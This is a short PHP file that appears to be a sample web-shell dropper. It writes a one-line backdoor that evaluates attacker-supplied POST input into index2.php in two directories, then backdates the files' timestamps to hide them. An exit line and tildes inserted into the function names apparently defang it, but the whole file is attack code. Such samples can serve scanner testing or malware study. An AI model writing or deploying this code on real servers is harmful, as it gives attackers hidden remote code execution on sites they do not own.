<?php exit; ?>
<?php
$body = '<?php eva~l($_P~OST["MARKER"]); ?>';
foreach (array('a', 'b') as $d) { fil~e_put_contents("./$d/index2.php", $body); touch("./$d/index2.php", 1400000000); }
